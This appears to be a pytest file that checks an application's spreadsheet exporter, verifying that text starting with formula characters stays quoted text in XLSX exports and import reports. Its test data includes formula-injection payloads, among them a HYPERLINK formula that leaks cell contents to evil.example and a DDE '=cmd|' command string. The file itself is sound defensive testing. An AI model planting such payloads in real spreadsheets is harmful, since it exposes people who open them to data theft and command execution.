"""No text ever becomes a formula in an exported spreadsheet (#13 point 11, CSV/formula
injection): every export and import error report goes through core.sheetwriter, which writes text
as string cells (no <f> element in the sheet XML) and gives a text beginning with = + - @ tab or
CR Excel's quote prefix, the text itself kept intact."""

from __future__ import annotations

import io
import os
import re
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from tests.conftest import Personas
from tests.returnees.conftest import Sender, registration
from tests.verification.support import new_id_number
from zhengding.core.sheetwriter import FORMULA_TRIGGERS, SheetBook


@pytest.fixture(scope="session")
async def health_code_system(db) -> tuple[str, str]:
    from zhengding.returnees.service import inbound

    async with db.unit_of_work() as session:
        source, secret = await inbound.add_source(
            session, f"健康码系统-导出-{os.getpid()}-{os.urandom(3).hex()}"
        )
        return source.key_id, secret


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=1+1",
    "+86 139 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
PLAIN = ["张三", "海口市秀英区", "1+1=2", "a=b"]


def sheet_xml(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]


def assert_no_formula(content: bytes) -> None:
    for xml in sheet_xml(content):
        assert "<f>" not in xml and "<f " not in xml, xml[:2000]


def quote_prefixed_styles(content: bytes) -> set[int]:
    """The indexes of the cell styles (cellXfs) that carry quotePrefix."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        styles = archive.read("xl/styles.xml").decode()
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert xfs is not None
    return {
        i
        for i, xf in enumerate(re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs.group(1), re.S))
        if 'quotePrefix="1"' in xf
    }


def cells_by_style(content: bytes) -> dict[str, int]:
    """Cell reference → style index, of the first sheet."""
    xml = sheet_xml(content)[0]
    return {m.group(1): int(m.group(2) or 0) for m in re.finditer(r'<c r="([A-Z]+\d+)"(?: s="(\d+)")?', xml)}


def rows_of(content: bytes, sheet: int = 0) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(sheet).to_python()


class TestSheetBook:
    @pytest.mark.parametrize("constant_memory", [False, True])
    def test_hostile_text_is_a_quote_prefixed_string_kept_intact(self, constant_memory):
        book = SheetBook(constant_memory=constant_memory)
        sheet = book.sheet("s")
        style = book.style(num_format="@", bold=True)
        sheet.row(0, 0, HOSTILE)  # through row()
        for c, value in enumerate(HOSTILE):
            sheet.text(1, c, value, style)  # through text(), with a style of the caller's
            sheet.cell(2, c, value)  # through cell()
        sheet.row(3, 0, PLAIN)
        content = book.close()
        assert_no_formula(content)
        rows = rows_of(content)
        assert rows[0] == rows[1] == rows[2] == HOSTILE
        assert rows[3][: len(PLAIN)] == PLAIN
        quoted = quote_prefixed_styles(content)
        styles = cells_by_style(content)
        for r in (1, 2, 3):
            assert all(styles[f"{chr(65 + c)}{r}"] in quoted for c in range(len(HOSTILE))), r
        assert not any(styles[f"{chr(65 + c)}4"] in quoted for c in range(len(PLAIN)))

    def test_the_triggers_are_owasps(self):
        assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}

    def test_numbers_stay_numbers(self):
        book = SheetBook()
        book.sheet().row(0, 0, [-5, 3.5, None, True])
        content = book.close()
        assert rows_of(content)[0] == [-5.0, 3.5, "", "是"]
        assert_no_formula(content)


class TestExports:
    async def test_the_verification_import_report_keeps_hostile_headers_and_cells_as_text(
        self, client, personas: Personas
    ):
        header = ["姓名", "身份证号", "手机号", "线索地址", HOSTILE[0]]
        rows = [["=1+1", "123", "", "@SUM(A1:A9)", "-2+3"]]  # rejected: bad ID number
        from tests.core.test_input_hygiene import _csv

        r = await client.post(
            "/api/verification/imports",
            headers=personas.province.headers,
            files={"file": ("x.csv", _csv(header, rows), "text/csv")},
        )
        assert r.status_code == 200, r.text
        report = await client.get(
            f"/api/verification/batches/{r.json()['batch_id']}/report", headers=personas.province.headers
        )
        assert report.status_code == 200
        assert_no_formula(report.content)
        sheet = rows_of(report.content)
        assert sheet[0][:5] == header
        assert sheet[1][:5] == ["=1+1", "123", "", "@SUM(A1:A9)", "-2+3"]

    async def test_the_nat_import_report_keeps_hostile_cells_as_text(self, client, personas: Personas):
        from tests.core.test_input_hygiene import _csv

        content = _csv(
            ["身份证号", "姓名", "采样时间", "检测结果", "检测机构"],
            [
                ["=1+1", "@SUM(A1)", "2022-01-20 08:30", "+", "-1"],
                [new_id_number(), "=x", "昨天", "阴性", "=A1"],
            ],
        )
        r = await client.post(
            "/api/verification/nat-results/import",
            headers=personas.province.headers,
            files={"file": ("nat.csv", content, "text/csv")},
        )
        assert r.status_code == 200, r.text
        assert r.json()["rejected"] == 2
        report = await client.get(
            f"/api/verification/nat-results/imports/{r.json()['import_id']}/report",
            headers=personas.province.headers,
        )
        assert report.status_code == 200, report.text
        assert_no_formula(report.content)
        sheet = rows_of(report.content)
        assert [row[:5] for row in sheet[1:]] == [
            ["=1+1", "@SUM(A1)", "2022-01-20 08:30", "+", "-1"],
            [sheet[2][0], "=x", "昨天", "阴性", "=A1"],
        ]

    async def test_the_returnee_export_keeps_hostile_text_as_text(
        self, health_code_system, client, personas: Personas
    ):
        sender = Sender(client, *health_code_system)
        port = '=HYPERLINK("http://evil")' + os.urandom(4).hex()
        r = await sender.one(registration(port_of_entry=port, transport_no="+86-1"))
        assert r.status_code == 201, r.text
        exported = await client.get(
            "/api/returnees/export", params={"port_of_entry": port}, headers=personas.town.headers
        )
        assert exported.status_code == 200, exported.text
        assert_no_formula(exported.content)
        rows = rows_of(exported.content)
        header = rows[1]
        (row,) = rows[2:]
        assert row[header.index("入琼口岸")] == port
        assert row[header.index("航班/车次")] == "+86-1"


def test_every_xlsx_is_written_through_sheetwriter():
    from pathlib import Path

    src = Path(__file__).resolve().parents[2] / "src" / "zhengding"
    writers = sorted(
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        if re.search(r"^\s*(import xlsxwriter|from xlsxwriter)", p.read_text(encoding="utf-8"), re.M)
    )
    assert writers == ["core/sheetwriter.py"]
